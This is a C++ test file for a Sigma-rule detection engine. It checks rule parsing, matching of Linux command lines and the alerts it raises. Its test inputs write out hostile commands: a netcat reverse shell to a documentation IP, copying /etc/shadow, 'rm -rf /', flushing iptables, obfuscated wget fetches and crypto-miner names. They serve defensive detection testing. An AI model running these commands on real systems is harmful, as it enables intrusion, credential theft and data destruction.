#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <rapidcheck.h>

#include <fmt/format.h>

#include <array>
#include <cstdlib>
#include <iostream>
#include <nlohmann/json.hpp>
#include <thread>

#include "detect/rules/pack.hpp"
#include "detect/rules/recorded.hpp"
#include "detect/rules/rule_probe.hpp"
#include "detect/rules/rule_set.hpp"
#include "detect/rules/sigma.hpp"

namespace fieldwatch::detect {
namespace {

using Fields = std::vector<std::pair<std::string, std::string>>;
using ::testing::ElementsAre;
using ::testing::HasSubstr;

std::string rule_text(std::string_view detection, std::string_view extra = {}, std::string_view id = "r1") {
    return "title: T\nid: " + std::string(id) +
           "\nlevel: high\nauthor: A. Writer\nlogsource: {product: linux, category: process_creation}\n" +
           std::string(extra) + "detection:\n" + std::string(detection);
}

RuleSet::Compiled compile(std::string text, std::vector<SourceFile> words = {}) {
    const SourceFile file{"t.yml", std::move(text)};
    return RuleSet::compile({&file, 1}, words);
}

bool fires(const std::string& detection, const Fields& fields, std::vector<SourceFile> words = {}) {
    const auto compiled = compile(rule_text(detection), std::move(words));
    for (const auto& error : compiled.errors)
        ADD_FAILURE() << error.line << ": " << error.why;
    Matcher matcher(compiled.rules);
    const auto event = RecordedEvent::make("linux", "process_creation", "", fields);
    std::vector<RuleHit> hits;
    matcher.match(event.event(), event.item(), hits);
    return !hits.empty();
}

std::string why(const std::string& text) {
    const auto compiled = compile(text);
    return compiled.errors.empty() ? "" : compiled.errors[0].why;
}

RulePack own_pack() {
    auto pack = load_rule_pack(posix_file_system(), FIELDWATCH_SOURCE_DIR "/rules");
    EXPECT_TRUE(pack.has_value());
    return pack.value_or(RulePack{});
}

std::vector<std::string> types(const std::string& line, const RuleSetPtr& rules) {
    Matcher matcher(rules);
    const auto event = RecordedEvent::make("linux", "process_creation", "", {{"CommandLine", line}});
    std::vector<RuleHit> hits;
    matcher.match(event.event(), event.item(), hits);
    std::vector<std::string> out;
    for (const auto& hit : hits)
        out.push_back(rules->rules()[hit.rule].alert_type);
    return out;
}

TEST(Sigma, ComparesValuesWithoutCaseAndExpressionsWithIt) {
    EXPECT_TRUE(fires("  s: {Image: /BIN/Sh}\n  condition: s\n", {{"Image", "/bin/sh"}}));
    EXPECT_FALSE(fires("  s: {Image: /bin/s}\n  condition: s\n", {{"Image", "/bin/sh"}}));
    EXPECT_TRUE(fires("  s: {Image|re: 's.$'}\n  condition: s\n", {{"Image", "/bin/sh"}}));
    EXPECT_FALSE(fires("  s: {Image|re: 'S.$'}\n  condition: s\n", {{"Image", "/bin/sh"}}));
    EXPECT_TRUE(fires("  s: {Image|re|i: 'S.$'}\n  condition: s\n", {{"Image", "/bin/sh"}}));
    EXPECT_FALSE(fires("  s: {Image|cased: /BIN/sh}\n  condition: s\n", {{"Image", "/bin/sh"}}));
}

TEST(Sigma, UnderstandsWildcardsAndTheirEscapes) {
    EXPECT_TRUE(fires("  s: {Image: '/bin/*h'}\n  condition: s\n", {{"Image", "/bin/bash"}}));
    EXPECT_TRUE(fires("  s: {Image: '/bin/?sh'}\n  condition: s\n", {{"Image", "/bin/ash"}}));
    EXPECT_FALSE(fires("  s: {Image: '/bin/?sh'}\n  condition: s\n", {{"Image", "/bin/sh"}}));
    EXPECT_TRUE(fires("  s: {Image: 'a\\*b'}\n  condition: s\n", {{"Image", "a*b"}}));
    EXPECT_FALSE(fires("  s: {Image: 'a\\*b'}\n  condition: s\n", {{"Image", "axb"}}));
    EXPECT_TRUE(fires("  s: {Image|contains: 'x\\y'}\n  condition: s\n", {{"Image", "ax\\yb"}}));
}

TEST(Sigma, UnderstandsModifiers) {
    EXPECT_TRUE(fires("  s: {CommandLine|contains|all: [a, c]}\n  condition: s\n", {{"CommandLine", "abc"}}));
    EXPECT_FALSE(
        fires("  s: {CommandLine|contains|all: [a, d]}\n  condition: s\n", {{"CommandLine", "abc"}}));
    EXPECT_TRUE(fires("  s: {CommandLine|startswith: [x, ab]}\n  condition: s\n", {{"CommandLine", "abc"}}));
    EXPECT_FALSE(fires("  s: {CommandLine|endswith: ab}\n  condition: s\n", {{"CommandLine", "abc"}}));
    EXPECT_TRUE(fires("  s: {Ip|cidr: 10.0.0.0/8}\n  condition: s\n", {{"Ip", "10.9.8.7"}}));
    EXPECT_FALSE(fires("  s: {Ip|cidr: 10.0.0.0/8}\n  condition: s\n", {{"Ip", "11.9.8.7"}}));
    EXPECT_TRUE(fires("  s: {N|gte: 3}\n  condition: s\n", {{"N", "3"}}));
    EXPECT_FALSE(fires("  s: {N|lt: 3}\n  condition: s\n", {{"N", "3"}}));
    EXPECT_TRUE(fires("  s: {A: null, B|exists: true}\n  condition: s\n", {{"B", "x"}}));
    EXPECT_FALSE(fires("  s: {A: null}\n  condition: s\n", {{"A", "x"}}));
    EXPECT_TRUE(fires("  s: {N: 3}\n  condition: s\n", {{"N", "3"}}));
    EXPECT_TRUE(fires("  s: {C|windash|contains: ' -f'}\n  condition: s\n", {{"C", "x /f"}}));
    EXPECT_TRUE(
        fires("  s: {C|base64offset|contains: 'http://'}\n  condition: s\n", {{"C", "eHhodHRwOi8vYQ=="}}));
}

TEST(Sigma, MatchesWholeWordsOfLists) {
    const std::vector<SourceFile> words{{"words/miners.txt", "# list\nxmrig\ncpuminer\n"}};
    const std::string detection = "  s: {CommandLine|expand|word: '%miners%'}\n  condition: s\n";
    EXPECT_TRUE(fires(detection, {{"CommandLine", "echo CPUMiner-multi"}}, words));
    EXPECT_FALSE(fires(detection, {{"CommandLine", "echo mycpuminer_x"}}, words));
}

TEST(Sigma, RefusesATextWhoseDocumentsNeverEnd) {
    for (const std::string text : {", condition: s}\ntitle: t\n", "title: t\n--- ] x\n", "}"}) {
        const std::vector<SourceFile> files{{"odd.yml", text}};
        const auto compiled = RuleSet::compile(files, {});
        EXPECT_EQ(compiled.rules->rules().size(), 0u);
        EXPECT_FALSE(compiled.errors.empty()) << text;
    }
}

TEST(Sigma, ReadsKeywordsFromTheWholeLog) {
    const std::string detection = "  k: [alpha, 'be*ta']\n  condition: k\n";
    EXPECT_TRUE(fires(detection, {{"message", "x alpha y"}}));
    EXPECT_TRUE(fires(detection, {{"other", "be any ta"}}));
    EXPECT_FALSE(fires(detection, {{"message", "gamma"}}));
    const std::string all = "  k:\n    '|all': [alpha, beta]\n  condition: k\n";
    EXPECT_TRUE(fires(all, {{"message", "beta alpha"}}));
    EXPECT_FALSE(fires(all, {{"message", "alpha"}}));
}

TEST(Sigma, UnderstandsEveryFormOfCondition) {
    const std::string searches = "  s_a: {A: x}\n  s_b: {B: x}\n  f: {C: x}\n";
    const auto holds = [&](const std::string& condition, const Fields& fields) {
        return fires(searches + "  condition: " + condition + "\n", fields);
    };
    const Fields a{{"A", "x"}};
    const Fields ab{{"A", "x"}, {"B", "x"}};
    const Fields ac{{"A", "x"}, {"C", "x"}};
    EXPECT_TRUE(holds("1 of s_*", a));
    EXPECT_FALSE(holds("all of s_*", a));
    EXPECT_TRUE(holds("all of s_*", ab));
    EXPECT_TRUE(holds("2 of s_*", ab));
    EXPECT_TRUE(holds("1 of them", ac));
    EXPECT_FALSE(holds("all of them", ac));
    EXPECT_FALSE(holds("s_a and not f", ac));
    EXPECT_TRUE(holds("s_a and not f", a));
    EXPECT_TRUE(holds("s_b or (s_a and f)", ac));
    EXPECT_TRUE(holds("not s_b and not s_b", a));
    EXPECT_TRUE(holds("s_a or s_b and f", a));
    EXPECT_TRUE(fires("  s: [{A: x, B: x}, {C: x}]\n  condition: s\n", ac));
}

TEST(Sigma, RefusesByNameWithTheLine) {
    EXPECT_THAT(why(rule_text("  s: {A|contain: x}\n  condition: s\n")), HasSubstr("nearest is 'contains'"));
    EXPECT_THAT(why(rule_text("  s: {A: x}\n  condition: t\n")), HasSubstr("'t'"));
    EXPECT_THAT(why(rule_text("  s: {A: x}\n  condition: s | count() > 1\n")), HasSubstr("correlation"));
    EXPECT_THAT(why(rule_text("  s: {A|re: '(a'}\n  condition: s\n")), HasSubstr("(a"));
    EXPECT_THAT(why(rule_text("  s: {cmd.nonsense: x}\n  condition: s\n")), HasSubstr("cmd.nonsense"));
    EXPECT_THAT(why(rule_text("  s: {cmd.facts: run_code}\n  condition: s\n")),
                HasSubstr("cmd.facts is never 'run_code'; the nearest is 'runs_code'"));
    EXPECT_THAT(why(rule_text("  s: {cmd.interpreter: phyton}\n  condition: s\n")),
                HasSubstr("the nearest is 'python'"));
    EXPECT_THAT(why("title: C\ncorrelation: {type: event_count}\n"), HasSubstr("correlation"));
    EXPECT_THAT(why(rule_text("  s: {A: x}\n  condition: s\n", "fieldwatch: {alert_typ: x}\n")),
                HasSubstr("alert_typ"));
    const auto compiled = compile(rule_text("  s: {A: x}\n  condition: nope\n"));
    ASSERT_EQ(compiled.errors.size(), 1U);
    EXPECT_EQ(compiled.errors[0].line, 8);
    EXPECT_EQ(compiled.errors[0].file, "t.yml");
}

TEST(Sigma, AFilterSaysWhatIsLeftOutOrWhatStays) {
    const auto hits = [](const std::string& condition, const Fields& fields) {
        const auto compiled =
            compile(rule_text("  s: {A: x}\n  condition: s\n") +
                    "---\ntitle: F\nlogsource: {product: linux, category: process_creation}\n"
                    "filter:\n  rules: [r1]\n  lab: {User: lab}\n  ci: {User: ci}\n"
                    "  condition: " +
                    condition + "\n");
        EXPECT_TRUE(compiled.errors.empty()) << compiled.errors[0].why;
        Matcher matcher(compiled.rules);
        const auto event = RecordedEvent::make("linux", "process_creation", "", fields);
        std::vector<RuleHit> found;
        matcher.match(event.event(), event.item(), found);
        return found.size();
    };
    const Fields ours{{"A", "x"}, {"User", "lab"}}, other{{"A", "x"}, {"User", "eve"}};
    for (const auto* condition :
         {"lab or ci", "1 of them", "not lab and not ci", "not (lab or ci)", "not 1 of them", "not lab"}) {
        EXPECT_EQ(hits(condition, ours), 0u) << condition;
        EXPECT_EQ(hits(condition, other), 1u) << condition;
    }
}

TEST(Sigma, ARuleForSeveralSourcesIsOneForEach) {
    const auto compiled = compile(
        "action: global\ntitle: G\nid: g1\nlevel: high\ndetection: {condition: s}\n---\n"
        "logsource: {product: linux, category: process_creation}\ndetection: {s: {Image: /x}}\n---\n"
        "logsource: {product: linux, service: auditd}\ndetection: {s: {a0: x}}\n---\n"
        "id: own\nlogsource: {product: linux, service: sudo}\ndetection: {s: {USER: x}}\n---\n"
        "action: repeat\nlogsource: {service: su}\n");
    ASSERT_TRUE(compiled.errors.empty()) << compiled.errors[0].why;
    std::vector<std::string> ids;
    for (const auto& rule : compiled.rules->rules())
        ids.push_back(rule.origin.id + " " + rule.service);
    EXPECT_THAT(ids, ElementsAre("g1 ", "g1#2 auditd", "own sudo", "own#2 su"));
}

TEST(Sigma, MergesMapsThatAnAnchorNames) {
    const std::string detection =
        "  base: &base {A: x, B: y}\n  own: {<<: *base, B: z}\n  both: {<<: [*base, {C: q}]}\n";
    const Fields own{{"A", "x"}, {"B", "z"}}, base{{"A", "x"}, {"B", "y"}};
    EXPECT_TRUE(fires(detection + "  condition: own\n", own));
    EXPECT_FALSE(fires(detection + "  condition: own\n", base));
    EXPECT_FALSE(fires(detection + "  condition: own\n", {{"B", "z"}}));
    EXPECT_FALSE(fires(detection + "  condition: both\n", base));
    EXPECT_TRUE(fires(detection + "  condition: both\n", {{"A", "x"}, {"B", "y"}, {"C", "q"}}));
    EXPECT_THAT(why(rule_text("  s: {<<: text, A: x}\n  condition: s\n")), HasSubstr("'<<' takes a map"));
    // A map that says otherwise than its base, merged itself; and of several the earlier counts.
    EXPECT_TRUE(fires("  a: &a {<<: {A: x, B: y}, B: z}\n  s: {<<: *a}\n  condition: s\n", own));
    EXPECT_TRUE(fires("  s: {<<: [{B: z}, {A: x, B: y}]}\n  condition: s\n", own));
    std::string wide = "  a0: &a0 {A: x}\n";
    for (int i = 1; i <= 6; ++i)
        wide += fmt::format("  a{0}: &a{0} {{<<: [*a{1}, *a{1}, *a{1}, *a{1}]}}\n", i, i - 1);
    EXPECT_THAT(why(rule_text(wide + "  condition: a6\n")), HasSubstr("more than 64 maps"));
}

TEST(Sigma, ReadsTagsAndLevelsAsOlderRulesWriteThem) {
    const auto compiled = compile(
        "title: T\nid: old\nlevel: High\ntags: [attack.defense_evasion, attack.T1059.004]\n"
        "logsource: {product: linux}\ndetection: {s: {A: x}, condition: s}\n");
    ASSERT_TRUE(compiled.errors.empty()) << compiled.errors[0].why;
    const auto& meta = compiled.rules->rules()[0];
    EXPECT_EQ(meta.severity, model::Severity::High);
    EXPECT_EQ(meta.intent, "DefenseEvasion");
    EXPECT_THAT(meta.techniques, ElementsAre("T1059.004"));
}

TEST(Sigma, OneBrokenRuleDoesNotTouchItsNeighbours) {
    const auto compiled = compile(rule_text("  s: {A: x}\n  condition: nope\n", {}, "a") + "---\n" +
                                  rule_text("  s: {A: x}\n  condition: s\n", {}, "b"));
    EXPECT_EQ(compiled.errors.size(), 1U);
    ASSERT_EQ(compiled.rules->rules().size(), 1U);
    EXPECT_EQ(compiled.rules->rules()[0].origin.id, "b");
}

TEST(Matcher, CombinesFieldsWithinOneSegmentOnly) {
    const std::string detection = "  s: {cmd.name: rm, cmd.options: '-r'}\n  condition: s\n";
    EXPECT_TRUE(fires(detection, {{"CommandLine", "id; sudo rm -rf x"}}));
    EXPECT_FALSE(fires(detection, {{"CommandLine", "rm x; ls -r"}}));
    EXPECT_TRUE(fires("  s: {line.names|all: [rm, ls]}\n  condition: s\n", {{"CommandLine", "rm x; ls -r"}}));
}

TEST(Matcher, FindsCommandsThatTheLineSpellsOtherwise) {
    const std::string detection = "  s: {cmd.name: wget}\n  condition: s\n";
    EXPECT_TRUE(fires(detection, {{"CommandLine", "a=wg; ${a}et http://a.example/x"}}));
    EXPECT_TRUE(fires(detection, {{"CommandLine", "printf '\\x77get x' | sh"}}));
    EXPECT_TRUE(fires(detection, {{"CommandLine", "w\"ge\"t x"}}));
    EXPECT_FALSE(fires(detection, {{"CommandLine", "a=wg; echo ${a} et"}}));
}

TEST(Matcher, RoutesByLogSource) {
    const auto compiled = compile(rule_text("  s: {Image: x}\n  condition: s\n"));
    Matcher matcher(compiled.rules);
    std::vector<RuleHit> hits;
    const auto file = RecordedEvent::make("linux", "file_event", "", {{"Image", "x"}});
    matcher.match(file.event(), file.item(), hits);
    EXPECT_TRUE(hits.empty());
    const auto service = RecordedEvent::make("linux", "process_creation", "auditd", {{"Image", "x"}});
    matcher.match(service.event(), service.item(), hits);
    EXPECT_EQ(hits.size(), 1U);
}

TEST(Matcher, AnswersTheSameWhateverCameBefore) {
    const auto compiled = RuleSet::compile(own_pack().rules, own_pack().words, sample_options());
    rc::check([&](const std::vector<std::string>& lines) {
        Matcher used(compiled.rules);
        for (const auto& line : lines) {
            const auto event =
                RecordedEvent::make("linux", "process_creation", "", {{"CommandLine", line + "; rm -rf /"}});
            Matcher fresh(compiled.rules);
            std::vector<RuleHit> first, second;
            used.match(event.event(), event.item(), first);
            fresh.match(event.event(), event.item(), second);
            RC_ASSERT(first.size() == second.size());
            for (std::size_t i = 0; i < first.size(); ++i)
                RC_ASSERT(first[i].rule == second[i].rule);
        }
    });
}

TEST(Matcher, RemembersNothingThatAnItemDoesNotSay) {
    const auto compiled = RuleSet::compile(own_pack().rules, own_pack().words, sample_options());
    // Fields that rules read, each from few values, so that items differ in one of them and come again.
    const std::vector<std::string> lines{
        "nc -e /bin/sh 203.0.113.9 4444", "rm -rf /var/log", "ls -l", "", "./x; iptables -F",
        " cat /etc/shadow > /tmp/.s"};
    const std::vector<std::string> images{"/bin/sh", "/tmp/x", "/usr/sbin/nginx", ""};
    const std::vector<std::string> users{"root", "www-data", ""};
    const std::vector<std::string> directories{"", "/tmp", "/etc"};
    rc::check([&] {
        Matcher used(compiled.rules);
        const auto any = [](const auto& of) { return *rc::gen::elementOf(of); };
        for (int i = 0; i < 60; ++i) {
            const auto line = any(lines), image = any(images), parent = any(images), user = any(users),
                       directory = any(directories);
            model::Event event;
            event.kind = model::EventKind::ProcessCreate;
            model::Item item;
            item.payload = model::ProcessCreate{.executable = image,
                                                .command_line = line,
                                                .user_name = user,
                                                .parent_executable = parent,
                                                .working_directory = directory,
                                                .process_id = i};
            const std::pair<std::string_view, std::string_view> extra[] = {{"intel.category", "botnet"}};
            const auto known = i % 3 == 0 ? ExtraFields(extra) : ExtraFields();
            Matcher fresh(compiled.rules);
            std::vector<RuleHit> first, second;
            used.match(event, item, first, known);
            fresh.match(event, item, second, known);
            RC_ASSERT(first == second);
        }
    });
}

TEST(Matcher, RunsWhatOneLibraryAloneUnderstands) {
    // RE2 knows no \h, Vectorscan no ^ that something may stand before.
    EXPECT_TRUE(fires("  s: {Image|re: 'a\\hb'}\n  condition: s\n", {{"Image", "a b"}}));
    EXPECT_FALSE(fires("  s: {Image|re: 'a\\hb'}\n  condition: s\n", {{"Image", "axb"}}));
    EXPECT_TRUE(fires("  s: {Image|re: '\\S*(/|^)\\.(bashrc|profile)'}\n  condition: s\n",
                      {{"Image", "/root/.bashrc"}}));
}

TEST(Matcher, FindsAnExpressionWhereverItStands) {
    // Vectorscan 5.4.9 on processors with AVX-512 does not see one byte behind some sixty others.
    for (const std::string expression : {">", ">.", "(>|\\btee\\b)", "\\bZ\\b", "[\"x]>", ">\\s*/", "/x$"}) {
        const auto rule = "  s: {Image|re: '" + expression + "'}\n  condition: s\n";
        for (const std::size_t before : {0, 62, 63, 64, 65, 300}) {
            EXPECT_TRUE(fires(rule, {{"Image", std::string(before, 'a') + " Z \"> /x\n"}})) << rule << before;
            EXPECT_FALSE(fires(rule, {{"Image", std::string(before, 'a') + "aZa/x\n\n"}})) << rule << before;
        }
    }
}

TEST(Matcher, OfSeveralAtOnceCompileTheSameExpressions) {
    const auto compiled = compile(rule_text(
        "  s: {Image|re: ['b.sy', 'c[ab]t$']}\n  t: {CommandLine|re: 'x+y'}\n  condition: s and t\n"));
    std::array<std::size_t, 4> found{};
    std::vector<std::jthread> threads;
    for (auto& count : found) {
        threads.emplace_back([&count, &compiled] {
            Matcher matcher(compiled.rules);
            for (const auto* const image : {"/bin/busy", "/bin/cat", "/bin/cut"}) {
                const auto event = RecordedEvent::make("linux", "process_creation", "",
                                                       {{"Image", image}, {"CommandLine", "xxy"}});
                std::vector<RuleHit> hits;
                matcher.match(event.event(), event.item(), hits);
                count += hits.size();
            }
        });
    }
    threads.clear();
    EXPECT_THAT(found, ElementsAre(2u, 2u, 2u, 2u));
}

TEST(RuleProbe, ChargesNobodyForWhatIsDoneOnce) {
    ManualClock clock{Timestamp{}};
    RuleProbe probe(clock);
    {
        const ProbeScope cost(&probe, 3);
        clock.advance(std::chrono::microseconds(5));
        {
            const ProbePause once(&probe);
            clock.advance(std::chrono::milliseconds(98));
        }
        clock.advance(std::chrono::microseconds(2));
    }
    EXPECT_THAT(probe.take(), ElementsAre(std::pair(3u, std::chrono::nanoseconds(7'000))));
}

TEST(RulePackTest, EveryRuleCompilesAndItsSamplesHold) {
    const auto report = check_rules(own_pack());
    EXPECT_GE(report.total, 30U);
    EXPECT_EQ(report.compiles, report.total) << report.json();
    EXPECT_EQ(report.tested, report.total);
    EXPECT_TRUE(report.failures.empty()) << report.json();
}

TEST(RulePackTest, TheGoldenSampleRaisesCryptoMiner) {
    const auto pack = own_pack();
    const auto compiled = RuleSet::compile(pack.rules, pack.words, {});
    EXPECT_THAT(types("sh -c \"echo cpuminer-multi\"", compiled.rules), ElementsAre("IoT_CryptoMiner"));
    EXPECT_THAT(types("docker run xmrig/xmrig", compiled.rules), ElementsAre("IoT_CryptoMinerContainer"));
}

TEST(RulePackTest, AnAlertCarriesWhatTheSpecificationAsks) {
    const auto pack = own_pack();
    const auto compiled = RuleSet::compile(pack.rules, pack.words, {});
    model::Event event;
    event.kind = model::EventKind::ProcessCreate;
    event.device = "d1";
    event.hub = "hub1";
    event.time = Timestamp::from_unix_seconds(1'700'000'000);
    model::Item item;
    item.payload = model::ProcessCreate{.executable = "/bin/sh",
                                        .command_line = "sh -c 'iptables -F'",
                                        .user_id = "0",
                                        .user_name = "root",
                                        .process_id = 5,
                                        .parent_process_id = 4};
    Matcher matcher(compiled.rules);
    std::vector<RuleHit> hits;
    matcher.match(event, item, hits);
    ASSERT_EQ(hits.size(), 1U);
    const auto alert = make_alert(compiled.rules->rules()[hits[0].rule], hits[0], event, item);
    EXPECT_EQ(alert.type, "IoT_DisableFirewall");
    EXPECT_EQ(alert.discriminator, "iptables -F\nroot");
    EXPECT_EQ(alert.compromised_entity, "d1");
    EXPECT_EQ(alert.severity, model::Severity::High);
    const auto extended = nlohmann::json::parse(alert.extended_json);
    EXPECT_EQ(extended["DeviceId"], "d1");
    EXPECT_EQ(extended["ParentProcessId"], 4);
    EXPECT_EQ(extended["User Name"], "root");
    EXPECT_EQ(extended["CommandLine"], "sh -c 'iptables -F'");
    const auto entities = nlohmann::json::parse(alert.entities_json);
    EXPECT_EQ(entities[0]["$id"], "1");
    EXPECT_EQ(entities.back()["Type"], "process");
}

TEST(RecordedEvents, PrintRuleAndEventNumber) {
    const auto compiled = compile(rule_text("  s: {Image|endswith: /nmap}\n  condition: s\n"));
    RecordedMatches matches(compiled.rules);
    std::string out;
    const std::string event =
        R"({"logsource":{"product":"linux","category":"process_creation"},"fields":{"Image":"/usr/bin/nmap","N":3}})";
    ASSERT_TRUE(matches.match(event, 7, out));
    EXPECT_EQ(out, "{\"rule\":\"r1\",\"event\":7}\n");
    EXPECT_FALSE(matches.match("[1", 8, out).has_value());
}

/// The public Linux rules are not part of the tree (Detection Rule License): tested where the data lies.
TEST(StockRules, AllLinuxRulesCompile) {
    const char* const shared = std::getenv("FIELDWATCH_STOCK_RULES");
    if (shared == nullptr) GTEST_SKIP() << "FIELDWATCH_STOCK_RULES names no folder of unpacked Sigma rules";
    const auto pack = load_rule_pack(posix_file_system(), shared);
    ASSERT_TRUE(pack.has_value()) << pack.error().message;
    const auto report = check_rules(*pack);
    EXPECT_GE(report.total, 248U);
    EXPECT_EQ(report.compiles, report.total) << report.json();
    std::cerr << report.json().substr(0, 200) << "\n";
}

}  // namespace
}  // namespace fieldwatch::detect
